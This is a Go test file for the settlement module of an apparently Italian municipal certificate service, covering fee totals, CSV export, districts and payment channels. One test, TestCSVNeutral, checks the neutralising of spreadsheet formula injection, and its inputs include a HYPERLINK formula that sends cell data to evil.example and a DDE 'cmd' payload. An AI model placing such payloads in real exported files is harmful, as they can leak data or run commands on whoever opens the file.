package settlement

import (
	"bytes"
	"encoding/csv"
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/sportello/sportello/internal/certificate"
	"github.com/sportello/sportello/internal/fees"
	"github.com/sportello/sportello/internal/protocol"
)

func rec(t *testing.T, id, op string, at time.Time, ex fees.Exemption, service int64, types ...certificate.Type) certificate.Record {
	t.Helper()
	b, err := certificate.Fees(certificate.FeeRequest{Types: types, Exemption: ex, ServiceCents: service, Channel: certificate.Counter}, certificate.Policy{})
	if err != nil {
		t.Fatal(err)
	}
	return certificate.Record{ID: id, Protocol: "2026/" + id, Types: types, OperatorID: op, Fees: b.Lines, TotalCents: b.TotalCents,
		Issued: at, Status: certificate.Valid, Channel: certificate.Counter}
}

func TestSettle(t *testing.T) {
	apr := func(day, hour int) time.Time { return time.Date(2026, 4, day, hour, 0, 0, 0, protocol.Rome) }
	recs := []certificate.Record{
		rec(t, "a", "op-1", apr(2, 10), fees.Exemption{}, 200, certificate.Residenza),
		rec(t, "b", "op-1", apr(1, 9), fees.Exemption{Code: 1}, 200, certificate.Nascita),     // exempt from bollo: diritti halved
		rec(t, "c", "op-1", apr(30, 23), fees.Exemption{Code: 4}, 200, certificate.Residenza), // +diritti: no diritti
		rec(t, "d", "op-1", apr(15, 12), fees.Exemption{}, 200, certificate.StatoDiFamiglia, certificate.Residenza),
	}
	recs[3].Status = certificate.Revoked
	s, err := Settle(Operator{ID: "op-1", Name: "Edicola", District: "CAP 20131"}, Month{2026, time.April}, recs)
	if err != nil {
		t.Fatal(err)
	}
	want := Amounts{
		Certificates: 4, Revoked: 1,
		BolloCents:     2 * fees.BolloCents,
		DirittiCents:   2*fees.DirittiCents + fees.DirittiExemptCents,
		ServiceCents:   4 * 200,
		CollectedCents: 2*fees.BolloCents + 2*fees.DirittiCents + fees.DirittiExemptCents + 4*200,
	}
	if s.Amounts != want {
		t.Fatalf("amounts %+v, want %+v", s.Amounts, want)
	}
	if s.DueCents() != want.BolloCents+want.DirittiCents {
		t.Errorf("due %d", s.DueCents())
	}
	if s.Lines[0].ID != "b" || s.Lines[3].ID != "c" {
		t.Errorf("lines not in issue order: %s … %s", s.Lines[0].ID, s.Lines[3].ID)
	}
	if s.ByType[0].Type != certificate.Residenza || s.ByType[0].Certificates != 2 {
		t.Errorf("by type: %+v", s.ByType)
	}

	for _, f := range []struct {
		format     CSVFormat
		comma      rune
		bollo, all string
	}{{ItalianCSV, ';', "32,00", "41,30"}, {CommaCSV, ',', "32.00", "41.30"}} {
		var buf bytes.Buffer
		if err := WriteCSV(&buf, s, f.format); err != nil {
			t.Fatal(err)
		}
		r := csv.NewReader(&buf)
		r.Comma = f.comma
		rows, err := r.ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if len(rows) != 1+4+1 || len(rows[0]) != 15 { // pagamento and incassato_comune_eur last (issue 15)
			t.Fatalf("%d CSV rows of %d columns", len(rows), len(rows[0]))
		}
		last := rows[len(rows)-1]
		if want.BolloCents != 3200 || want.CollectedCents != 4130 {
			t.Fatalf("the test's amounts changed: %+v", want)
		}
		if last[2] != "TOTALE" || last[8] != f.bollo || last[11] != f.all {
			t.Errorf("format %d: totals row %q, want bollo %s and total %s", f.format, last, f.bollo, f.all)
		}
	}
}

// Cells a spreadsheet would run as formulas are written as text; numbers
// stay numbers.
func TestCSVNeutral(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("https://evil.example/?"&A1;"x")`: `'=HYPERLINK("https://evil.example/?"&A1;"x")`,
		"+39 02 1234":            "'+39 02 1234",
		"-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
		"@SUM(A1:A9)":            "'@SUM(A1:A9)",
		"\t=1+1":                 "'\t=1+1",
		"\r=1+1":                 "'\r=1+1",
		"  =1+1":                 "'  =1+1",
		"Edicola Rossi":          "Edicola Rossi",
		"16,00":                  "16,00",
		"-16.00":                 "-16.00",
		"2026-04":                "2026-04",
		"":                       "",
	} {
		if got := Neutral(in); got != want {
			t.Errorf("Neutral(%q) = %q, want %q", in, got, want)
		}
	}
	s := Settlement{Operator: Operator{ID: "op-1", Name: "=1+1", District: "@evil"}, Month: Month{2026, time.April}}
	var buf bytes.Buffer
	if err := WriteSummaryCSV(&buf, s.Month, []Settlement{s}, ItalianCSV); err != nil {
		t.Fatal(err)
	}
	r := csv.NewReader(&buf)
	r.Comma = ';'
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %q would run as a formula", cell)
			}
		}
	}
	if rows[1][3] != "'=1+1" || rows[1][4] != "'@evil" {
		t.Errorf("operator row %q", rows[1])
	}
}

func TestSettleRefuses(t *testing.T) {
	apr := time.Date(2026, 4, 10, 10, 0, 0, 0, protocol.Rome)
	other := rec(t, "x", "op-2", apr, fees.Exemption{}, 100, certificate.Residenza)
	may := rec(t, "y", "op-1", time.Date(2026, 4, 30, 22, 30, 0, 0, time.UTC), fees.Exemption{}, 100, certificate.Residenza) // 1 May in Rome
	bad := rec(t, "z", "op-1", apr, fees.Exemption{}, 100, certificate.Residenza)
	bad.TotalCents++
	odd := rec(t, "w", "op-1", apr, fees.Exemption{}, 100, certificate.Residenza)
	odd.Fees = append(odd.Fees, fees.Line{Kind: "mancia"})
	for name, r := range map[string]certificate.Record{"other operator": other, "other month": may, "sum": bad, "kind": odd} {
		if _, err := Settle(Operator{ID: "op-1"}, Month{2026, time.April}, []certificate.Record{r}); !errors.Is(err, ErrInvalid) {
			t.Errorf("%s: %v", name, err)
		}
	}
}

func TestDistricts(t *testing.T) {
	d := Districts{"20131": "Municipio 3"}
	ss := []Settlement{
		{Operator: Operator{ID: "a", District: d.Of("20131")}, Amounts: Amounts{Certificates: 2, BolloCents: 3200}},
		{Operator: Operator{ID: "b", District: d.Of("20122")}, Amounts: Amounts{Certificates: 1, BolloCents: 1600}},
		{Operator: Operator{ID: "c", District: d.Of("20131")}, Amounts: Amounts{Certificates: 1}},
	}
	got := ByDistrict(ss)
	if len(got) != 2 || got[0].District != "CAP 20122" || got[1].District != "Municipio 3" || got[1].Operators != 2 || got[1].Certificates != 3 {
		t.Fatalf("%+v", got)
	}
	if tot := Total(ss); tot.BolloCents != 4800 || tot.Certificates != 4 {
		t.Errorf("total %+v", tot)
	}
}

func TestMonth(t *testing.T) {
	m, err := ParseMonth("2026-12")
	if err != nil {
		t.Fatal(err)
	}
	if m.Next().String() != "2027-01" || m.Prev().String() != "2026-11" {
		t.Errorf("next %s prev %s", m.Next(), m.Prev())
	}
	from, to := Month{2024, time.February}.Days()
	if from.String() != "2024-02-01" || to.String() != "2024-02-29" {
		t.Errorf("days %s %s", from, to)
	}
	if _, err := ParseMonth("2026-13"); err == nil {
		t.Error("month 13 accepted")
	}
}

// A line says when retention deleted its certificate's PDF, so the console
// can say "PDF no longer kept"; the amounts do not change.
func TestLineSaysPDFGone(t *testing.T) {
	apr := time.Date(2026, 4, 2, 10, 0, 0, 0, protocol.Rome)
	recs := []certificate.Record{rec(t, "a", "op-1", apr, fees.Exemption{}, 200, certificate.Residenza), rec(t, "b", "op-1", apr.Add(time.Hour), fees.Exemption{}, 200, certificate.Residenza)}
	recs[0].PDFDeleted = apr.AddDate(0, 1, 1)
	s, err := Settle(Operator{ID: "op-1"}, Month{2026, time.April}, recs)
	if err != nil {
		t.Fatal(err)
	}
	if !s.Lines[0].PDFGone || s.Lines[1].PDFGone || s.Lines[0].Amounts != s.Lines[1].Amounts {
		t.Errorf("lines %+v", s.Lines)
	}
}

// TestSettleContrassegno: a bollo paid with a contrassegno the shop sold is
// not owed to the city: the State had it when the marca was printed. The
// diritti still are, and what the citizens paid still adds up.
func TestSettleContrassegno(t *testing.T) {
	apr := time.Date(2026, 4, 10, 10, 0, 0, 0, protocol.Rome)
	virtual := rec(t, "v", "op-1", apr, fees.Exemption{}, 100, certificate.Residenza)
	b, err := certificate.Fees(certificate.FeeRequest{Types: []certificate.Type{certificate.Residenza}, ServiceCents: 100, Channel: certificate.Counter, Contrassegno: "01234567890123"}, certificate.Policy{})
	if err != nil {
		t.Fatal(err)
	}
	marca := virtual
	marca.ID, marca.Fees, marca.TotalCents, marca.Contrassegno = "m", b.Lines, b.TotalCents, b.Contrassegno
	s, err := Settle(Operator{ID: "op-1"}, Month{2026, time.April}, []certificate.Record{virtual, marca})
	if err != nil {
		t.Fatal(err)
	}
	if s.BolloCents != fees.BolloCents || s.ContrassegnoCents != fees.BolloCents || s.DirittiCents != 2*fees.DirittiCents ||
		s.CollectedCents != 2*(fees.BolloCents+fees.DirittiCents+100) || s.DueCents() != fees.BolloCents+2*fees.DirittiCents {
		t.Errorf("amounts %+v, due %d", s.Amounts, s.DueCents())
	}
	var buf bytes.Buffer
	if err := WriteCSV(&buf, s, CommaCSV); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if last := rows[len(rows)-1]; last[8] != "16.00" || last[12] != "16.00" {
		t.Errorf("totals row %q", last)
	}
}

// TestSettleSelfServicePayments (issue 15): a self-service sale paid at
// the shop's till is money the shop collected, like a counter sale; one
// paid with a pagoPA notice is money the city collected, so it is not in
// what the shop collected and is taken off what it owes. The CSV says how
// each was paid.
func TestSettleSelfServicePayments(t *testing.T) {
	apr := time.Date(2026, 4, 10, 10, 0, 0, 0, protocol.Rome)
	till := rec(t, "t", "op-1", apr, fees.Exemption{}, 100, certificate.Residenza)
	till.Channel, till.PaidWith = certificate.SelfService, "till"
	pagopa := rec(t, "p", "op-1", apr.Add(time.Hour), fees.Exemption{}, 100, certificate.Residenza)
	pagopa.Channel, pagopa.PaidWith = certificate.SelfService, "pagopa"
	s, err := Settle(Operator{ID: "op-1"}, Month{2026, time.April}, []certificate.Record{till, pagopa})
	if err != nil {
		t.Fatal(err)
	}
	each := fees.BolloCents + fees.DirittiCents + 100
	if s.CollectedCents != each || s.PagoPACents != each {
		t.Errorf("collected by the shop %d, by the city %d; want %d each", s.CollectedCents, s.PagoPACents, each)
	}
	// The shop owes the city bollo and diritti of both, less what the city
	// already holds of the pagoPA sale: it keeps its fee of the till sale
	// and is owed its fee of the pagoPA one.
	if want := int64(2*(fees.BolloCents+fees.DirittiCents) - each); s.DueCents() != want {
		t.Errorf("due %d, want %d", s.DueCents(), want)
	}
	if s.Lines[0].PaidWith != "till" || s.Lines[1].PaidWith != "pagopa" {
		t.Errorf("lines paid with %q, %q", s.Lines[0].PaidWith, s.Lines[1].PaidWith)
	}
	var buf bytes.Buffer
	if err := WriteCSV(&buf, s, CommaCSV); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if h := rows[0]; h[13] != "pagamento" || h[14] != "incassato_comune_eur" {
		t.Errorf("header %q", h)
	}
	if rows[1][13] != "till" || rows[1][14] != "0.00" || rows[2][13] != "pagopa" || rows[2][14] != CommaCSV.Amount(each) {
		t.Errorf("rows %q %q", rows[1], rows[2])
	}
}
